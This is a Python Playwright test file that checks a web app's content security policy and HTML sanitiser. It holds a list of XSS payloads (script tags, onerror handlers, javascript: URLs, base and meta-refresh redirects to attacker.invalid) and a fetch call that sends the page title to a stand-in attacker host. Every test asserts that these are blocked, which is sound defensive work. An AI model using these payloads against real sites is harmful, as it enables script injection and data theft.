"""The browser holds to the policy: what is not ours does not run, and what is ours still does.

That no page of any role breaks the policy is asked everywhere: `visit` fails a test whose pages had something held
back, and `test_every_page` walks them all.
"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Error, Page, Route, expect

from .conftest import Visit

MADE = """() => {
  const script = document.createElement("script");
  script.append("window.ran = true");
  document.head.append(script);
  return window.ran === true;
}"""
STYLED = """() => {
  document.body.insertAdjacentHTML("beforeend", "<p id='styled' style='position: fixed; top: 0'>hej</p>");
  return getComputedStyle(document.getElementById("styled")).position;
}"""
FRAMED = """() => {
  const frame = document.createElement("iframe");
  frame.src = location.href;
  document.body.append(frame);
}"""
FOREIGN = (
    """() => fetch("https://attacker.invalid/?" + document.title).then(() => "sent", () => "held back")"""
)
INSERTED = """(html) => { const box = document.createElement("div"); box.innerHTML = html; return box.childElementCount; }"""
RUNS = (
    "<script>window.ran = true</script>",
    "<img src=x onerror='window.ran = true'>",
    "<p hx-on:click='window.ran = true'>hej</p>",
    "<a href='java\nscript:window.ran = true'>hej</a>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<form><button formaction='javascript:1'>hej</button></form>",
    "<base href='https://attacker.invalid/'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.invalid/'>",
    "<svg><a xlink:href='javascript:1'>hej</a></svg>",
    "<div><template shadowrootmode=open><script>1</script></template></div>",
)


@pytest.fixture
def page(visit: Visit) -> Page:
    return visit("leder", "/kapacitet/")


def held_back(visit: Visit, page: Page, what: str) -> None:
    """The watch has seen it; it is what the test is about, and no fault."""
    # The browser tells of it a moment later, and sometimes twice.
    page.wait_for_timeout(500)
    assert any(what in line for line in visit.held_back), visit.held_back
    visit.held_back.clear()


def test_a_script_in_the_page_does_not_run(visit: Visit, page: Page) -> None:
    """As if a name on the page had been written out unescaped."""

    def written_out(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(
            response=answer, body=answer.text().replace("</h1>", "</h1><script>window.ran = true</script>")
        )

    page.route("**/kapacitet/", written_out)
    page.goto("/kapacitet/")
    assert page.evaluate("window.ran") is None
    held_back(visit, page, "script-src")


def test_a_script_made_of_a_text_does_not_run(visit: Visit, page: Page) -> None:
    try:
        assert page.evaluate(MADE) is False
    except Error as refused:
        assert "TrustedScript" in str(refused)
    assert page.evaluate("window.ran") is None
    page.wait_for_timeout(200)
    visit.held_back.clear()


def test_a_style_in_the_page_does_nothing(visit: Visit, page: Page) -> None:
    assert page.evaluate(STYLED) == "static"
    held_back(visit, page, "style-src")


def test_nothing_is_sent_elsewhere(visit: Visit, page: Page) -> None:
    assert page.evaluate(FOREIGN) == "held back"
    held_back(visit, page, "connect-src")


def test_the_page_stands_in_no_frame(visit: Visit, page: Page) -> None:
    page.evaluate(FRAMED)
    held_back(visit, page, "frame-src")


@pytest.mark.parametrize("html", RUNS)
def test_html_that_runs_is_refused_whole(visit: Visit, page: Page, html: str) -> None:
    with pytest.raises(Error, match="has something in it that runs"):
        page.evaluate(INSERTED, f"<p>hej</p>{html}")
    assert page.evaluate("window.ran") is None
    page.wait_for_timeout(200)
    visit.held_back.clear()


def test_html_that_only_shows_is_let_through(visit: Visit, page: Page) -> None:
    assert page.evaluate(INSERTED, "<p class='lead'>hej</p><a href='/kapacitet/'>Kapacitet</a>") == 2
    assert visit.held_back == []


def test_a_part_of_the_page_that_was_tampered_with_is_not_shown(visit: Visit, page: Page) -> None:
    """Somebody between us and the browser, or a hole of ours: the page stays as it was."""

    def tamper(route: Route) -> None:
        answer = route.fetch()
        body = re.sub(r'(id="breakdown"[^>]*>)', r"\1<img src=x onerror='window.ran = true'>", answer.text())
        assert "onerror" in body
        route.fulfill(response=answer, body=body)

    page.route(re.compile("opdel="), tamper)
    before = page.locator("#breakdown caption").inner_text()
    page.get_by_label("Opdel efter").select_option("tilbuddets kommune")
    page.wait_for_timeout(1500)
    assert page.locator("#breakdown caption").inner_text() == before
    assert page.evaluate("window.ran") is None
    page.wait_for_timeout(200)
    visit.held_back.clear()


def test_ours_still_works(visit: Visit, page: Page) -> None:
    """Filters without a reload, the theme, and a chart as a file."""
    page.get_by_label("Opdel efter").select_option("tilbuddets kommune")
    expect(page.locator("#breakdown caption")).to_contain_text("kommune")
    page.locator("details.menu > summary").click()
    page.locator("[data-theme-toggle]").first.click()
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    page.goto("/design/")
    with page.expect_download() as download:
        page.locator("[data-download=csv]").first.click()
    assert download.value.suggested_filename.endswith(".csv")
    assert visit.held_back == []
